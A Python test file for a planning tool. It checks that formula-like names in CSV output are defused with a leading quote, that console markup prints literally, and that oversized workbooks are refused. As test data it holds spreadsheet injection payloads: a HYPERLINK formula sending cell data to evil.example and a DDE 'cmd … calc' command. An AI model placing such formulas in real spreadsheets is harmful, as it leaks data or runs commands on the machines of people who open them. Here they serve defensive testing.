"""Outputs read by spreadsheets: formula-like text is neutralised; oversized workbooks are refused."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from conftest import REPO

import models.tables as tables
from cli import main
from models.loader import load_scenario
from models.plan_io import FORMULA_START, spreadsheet_safe
from optimizer.audit import audit_folder

TINY = REPO / "tests" / "data" / "tiny"
FORMULAS = {
    "Xã Sín Thầu": '=HYPERLINK("http://evil.example/?"&A1,"Sín Thầu")',
    "Lò Văn Thành": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Quàng Thị Hoa": "+84 912 345 678",
    "Nguyễn Thị Mai": "-2+3",
}


@pytest.mark.parametrize("start", FORMULA_START)
def test_formula_starts_get_a_quote(start: str):
    """Each character a spreadsheet would evaluate is defused with a leading quote."""
    assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("text", ["Xã Sín Thầu", "03158", "a=b", "it", ""])
def test_plain_text_is_unchanged(text: str):
    """Text that does not start like a formula is written as it is."""
    assert spreadsheet_safe(text) == text


@pytest.fixture
def formula_scenario(tmp_path: Path) -> Path:
    """The tiny scenario with formula-like names, a formula-like id and a formula as its own name."""
    folder = Path(shutil.copytree(TINY, tmp_path / "formulas"))
    for file in ("communes.csv", "candidates.csv"):
        text = (folder / file).read_text(encoding="utf-8")
        for name, formula in FORMULAS.items():
            text = text.replace(name, '"' + formula.replace('"', '""') + '"')
        (folder / file).write_text(text.replace("P002", "-P002").replace("P004", "-P004"), encoding="utf-8")
    yaml = (folder / "scenario.yaml").read_text(encoding="utf-8")
    (folder / "scenario.yaml").write_text(
        yaml.replace('name: "Tiny — two communes"', "name: \"=cmd|' /C calc'!A0\""), encoding="utf-8"
    )
    return folder


def test_formula_names_are_written_as_text(formula_scenario: Path, tmp_path: Path):
    """No cell of assignments.csv or unfilled.csv starts like a formula; the audit still passes."""
    out = tmp_path / "plan"
    result = CliRunner().invoke(main, ["solve", str(formula_scenario), "--out", str(out)])
    assert result.exit_code == 0, result.output
    cells = []
    for name in ("assignments.csv", "unfilled.csv"):
        with (out / name).open(encoding="utf-8-sig", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert "'" + FORMULAS["Xã Sín Thầu"] in cells
    assert "'" + FORMULAS["Lò Văn Thành"] in cells
    assert {"'-P002", "'-P004"} & set(cells)  # whichever of the two equally good land officers is chosen
    assert audit_folder(load_scenario(formula_scenario), out) == []


def test_markup_in_names_is_printed_as_typed(tmp_path: Path):
    """A name holding console markup such as `[/]` is printed literally, not interpreted."""
    folder = Path(shutil.copytree(TINY, tmp_path / "markup"))
    yaml = (folder / "scenario.yaml").read_text(encoding="utf-8")
    (folder / "scenario.yaml").write_text(
        yaml.replace("Tiny — two communes", "[/][bold]Tiny"), encoding="utf-8"
    )
    for command in (["validate", str(folder)], ["solve", str(folder), "--out", str(tmp_path / "plan")]):
        result = CliRunner().invoke(main, command)
        assert result.exit_code == 0, result.output
        assert "[/][bold]Tiny" in result.output


def test_an_oversized_workbook_is_refused_before_opening(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """A workbook that would unpack beyond the limit is refused with its size, without being opened."""
    folder = Path(shutil.copytree(TINY, tmp_path / "book"))
    pd.read_csv(folder / "agencies.csv", dtype=str).to_excel(
        folder / "book.xlsx", sheet_name="a", index=False
    )
    yaml = (folder / "scenario.yaml").read_text(encoding="utf-8")
    (folder / "scenario.yaml").write_text(yaml.replace(": agencies.csv", ": book.xlsx#a"), encoding="utf-8")
    assert load_scenario(folder).agencies
    monkeypatch.setattr(tables, "MAX_UNPACKED_BYTES", 1000)
    result = CliRunner().invoke(main, ["validate", str(folder)])
    assert result.exit_code == 2
    assert "book.xlsx#a: would unpack to" in result.output and "(at most 1,000 bytes" in result.output
